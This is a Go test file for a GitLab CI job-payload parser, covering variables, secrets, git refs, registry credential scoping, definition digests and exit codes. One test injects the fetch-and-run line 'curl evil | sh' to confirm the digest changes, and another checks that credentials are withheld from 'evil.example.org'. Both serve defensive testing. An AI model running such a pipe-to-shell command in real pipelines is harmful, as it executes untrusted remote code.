package gitlab

import (
	"strings"
	"testing"
)

const sampleResponse = `{
  "id": 4242, "token": "job-token",
  "job_info": {"name": "build", "stage": "test", "project_id": 77, "project_name": "project"},
  "git_info": {"repo_type": "git", "repo_url": "https://gitlab-ci-token:job-token@gitlab.example.com/group/sub/project.git",
               "ref": "main", "sha": "0123456789abcdef0123456789abcdef01234567", "ref_type": "branch"},
  "runner_info": {"timeout": 1800},
  "variables": [
    {"key": "CI_SERVER_URL", "value": "https://gitlab.example.com", "public": true},
    {"key": "DUP", "value": "first", "public": true},
    {"key": "DUP", "value": "second", "public": true},
    {"key": "SIGSTORE_ID_TOKEN", "value": "eyJ.token.sig", "masked": true}
  ],
  "steps": [{"name": "script", "script": ["make"], "timeout": 1800, "when": "on_success"}],
  "image": {"name": "golang:1.26", "entrypoint": ["/bin/sh"]},
  "services": [],
  "artifacts": [{"name": "a", "paths": ["out/"], "when": "on_success", "artifact_type": "archive"}],
  "credentials": [
    {"type": "registry", "url": "registry.gitlab.example.com", "username": "gitlab-ci-token", "password": "job-token"},
    {"type": "registry", "url": "https://mirror.example.org:5000/v2/", "username": "mirror-user", "password": "mirror-pass"}
  ],
  "some_future_field": {"x": 1}
}`

func TestParseResponse(t *testing.T) {
	r, err := ParseResponse([]byte(sampleResponse))
	if err != nil {
		t.Fatal(err)
	}
	if r.ID != 4242 || r.JobInfo.ProjectID != 77 || r.RunnerInfo.Timeout != 1800 || r.Image.Name != "golang:1.26" {
		t.Fatalf("%+v", r)
	}
	if v, _ := r.Var("DUP"); v != "second" {
		t.Errorf("the last of duplicate variables wins, got %q", v)
	}
	if _, ok := r.Var("MISSING"); ok {
		t.Error("missing variable found")
	}
	if s := r.Secrets([]string{"SIGSTORE_ID_TOKEN", "OTHER"}); len(s) != 1 || s[0].Value != "eyJ.token.sig" {
		t.Errorf("secrets %+v", s)
	}
	if r.ProjectSlug() != "group/sub/project" {
		t.Errorf("slug %q", r.ProjectSlug())
	}
	if r.GitRef() != "refs/heads/main" {
		t.Errorf("ref %q", r.GitRef())
	}
	if _, err := ParseResponse([]byte(`{"id": 0}`)); err == nil {
		t.Error("a payload without id was accepted")
	}
	if _, err := ParseResponse([]byte(`not json`)); err == nil {
		t.Error("invalid JSON was accepted")
	}
}

// Registry credentials go only to the registry they name.
func TestRegistryAuth(t *testing.T) {
	r, _ := ParseResponse([]byte(sampleResponse))
	if u, p, ok := r.RegistryAuth("registry.gitlab.example.com"); !ok || u != "gitlab-ci-token" || p != "job-token" {
		t.Errorf("own registry: %q %q %v", u, p, ok)
	}
	if u, _, ok := r.RegistryAuth("Mirror.Example.org:5000"); !ok || u != "mirror-user" {
		t.Errorf("a URL with scheme and path: %q %v", u, ok)
	}
	for _, other := range []string{"evil.example.org", "registry.gitlab.example.com:5050", "gitlab.example.com", "mirror.example.org"} {
		if _, _, ok := r.RegistryAuth(other); ok {
			t.Errorf("credentials offered to %s", other)
		}
	}
}

func TestDefinitionDigest(t *testing.T) {
	a, _ := ParseResponse([]byte(sampleResponse))
	b, _ := ParseResponse([]byte(strings.ReplaceAll(sampleResponse, `"timeout": 1800}`, `"timeout": 1800 }`)))
	if a.Definition() != b.Definition() || len(a.Definition()) != 64 {
		t.Errorf("whitespace changed the digest: %s %s", a.Definition(), b.Definition())
	}
	c, _ := ParseResponse([]byte(strings.ReplaceAll(sampleResponse, `["make"]`, `["make", "curl evil | sh"]`)))
	if a.Definition() == c.Definition() {
		t.Error("a different script gave the same digest")
	}
	d, _ := ParseResponse([]byte(strings.ReplaceAll(sampleResponse, `"eyJ.token.sig"`, `"another-token"`)))
	if a.Definition() != d.Definition() {
		t.Error("variables (secrets) must not be part of the definition digest")
	}
}

func TestGitRef(t *testing.T) {
	r := &Response{}
	for _, tc := range []struct{ ref, typ, want string }{
		{"v1.0", "tag", "refs/tags/v1.0"},
		{"main", "branch", "refs/heads/main"},
		{"main", "", ""},
		{"bad ref", "branch", ""},
	} {
		r.GitInfo.Ref, r.GitInfo.RefType = tc.ref, tc.typ
		if got := r.GitRef(); got != tc.want {
			t.Errorf("%+v: %q", tc, got)
		}
	}
}

func TestContractExitCodes(t *testing.T) {
	env := map[string]string{"BUILD_FAILURE_EXIT_CODE": "7", "SYSTEM_FAILURE_EXIT_CODE": "9", "BUILD_EXIT_CODE_FILE": t.TempDir() + "/code"}
	c := ContractFromEnv(func(k string) string { return env[k] })
	if c.ExitCode(nil) != 0 || c.ExitCode(errString("boom")) != 9 {
		t.Fatal("nil or system failure")
	}
	if c.ExitCode(&BuildError{ExitCode: 42}) != 7 {
		t.Fatal("build failure")
	}
	if b, err := readFileString(env["BUILD_EXIT_CODE_FILE"]); err != nil || b != "42\n" {
		t.Fatalf("exit code file %q %v", b, err)
	}
	d := ContractFromEnv(func(string) string { return "" })
	if d.BuildFailureExitCode != 1 || d.SystemFailureExitCode != 2 {
		t.Fatalf("defaults %+v", d)
	}
}
